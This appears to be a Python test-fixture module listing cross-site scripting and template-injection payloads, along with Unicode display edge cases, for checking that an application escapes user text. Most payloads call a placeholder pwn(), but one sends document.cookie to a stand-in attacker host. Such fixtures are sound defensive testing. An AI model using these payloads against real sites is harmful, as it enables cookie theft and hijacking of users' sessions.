"""What a hostile user writes: strings that run ``pwn()`` where somebody renders them as markup, as an address or as code.

``NAMES`` fit where 64 characters are allowed; ``TEXTS`` are for messages and descriptions, and hold the names too. ``AWKWARD``
runs nothing but is hard to show: directions, stacked marks, long words.
"""

from __future__ import annotations

from typing import Final

NAMES: Final = (
    "<script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    '"><img src=x onerror=pwn()>',
    "'><svg onload=pwn()>",
    "<svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<iframe srcdoc='<script>parent.pwn()</script>'>",
    "<body onload=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<details open ontoggle=pwn()>x</details>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<a href=javascript:pwn()>click</a>",
    "javascript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "</title><script>pwn()</script>",
    "</textarea><img src=x onerror=pwn()>",
    "--><script>pwn()</script>",
    "]]><script>pwn()</script>",
    "';pwn();//",
    '";pwn();//',
    "`${pwn()}`",
    "{{constructor.constructor('pwn()')()}}",
    "${pwn()}",
    "<%= pwn() %>",
    "\\u003cimg src=x onerror=pwn()\\u003e",
    "&lt;img src=x onerror=pwn()&gt;",
    "&#60;img src=x onerror=pwn()&#62;",
    "<IMG SRC=x OnErRoR=pwn()>",
    "<img/src=x/onerror=pwn()>",
    "<img src=`x`onerror=pwn()>",
    "<math><mi//xlink:href='javascript:pwn()'>",
    "<form><button formaction=javascript:pwn()>x",
    "<style>@import'javascript:pwn()';</style>",
    "<div style=background:url(javascript:pwn())>",
    "<base href=javascript:pwn()//>",
    "<link rel=stylesheet href=data:,*{color:red}>",
    "<meta http-equiv=refresh content=0;url=javascript:pwn()>",
    "<object data=javascript:pwn()>",
    "<embed src=javascript:pwn()>",
    "<template><img src=x onerror=pwn()></template>",
    "__proto__",
    "constructor",
    "toString",
)
LONGER: Final = (
    "<marquee onstart=pwn() onfinish=pwn() loop=1>hello</marquee><img src=x onerror=pwn()>",
    "[a link](javascript:pwn()) ![a picture](x onerror=pwn()) <javascript:pwn()>",
    'https://example.org/"onmouseover=pwn()//<img src=x onerror=pwn()>',
    '<svg><animate onbegin=pwn() attributeName=x dur=1s><set attributeName="onload" to="pwn()"/></svg>',
    "<script>fetch('https://attacker.example/' + document.cookie + localStorage.length)</script>",
    '<iframe src="javascript:parent.pwn()"></iframe><object data="data:text/html,<script>top.pwn()</script>"></object>',
    '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
    "<table background=javascript:pwn()><td background=javascript:pwn()>x</table>",
    "<x onclick=pwn() tabindex=1 id=root onfocus=pwn() autofocus contenteditable>x</x>",
    '<link rel="import" href="data:text/html,<script>pwn()</script>"><script src="data:text/javascript,pwn()"></script>',
)
TEXTS: Final = (*NAMES, *LONGER)
AWKWARD: Final = (
    "\u202egnp.exe\u202d reversed",
    "\u2066\u2067\u2068 never closed",
    "Z" + "\u0300\u0301\u0302\u0303\u0304" * 6 + "algo",
    "W" * 60,
    "\u200b\u200c\u200dinvisible",
    "\u0645\u0631\u062d\u0628\u0627 left and right",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 4,
    "a\u00a0b\u2028c",
)
LONG_WORD: Final = "0123456789" * 190
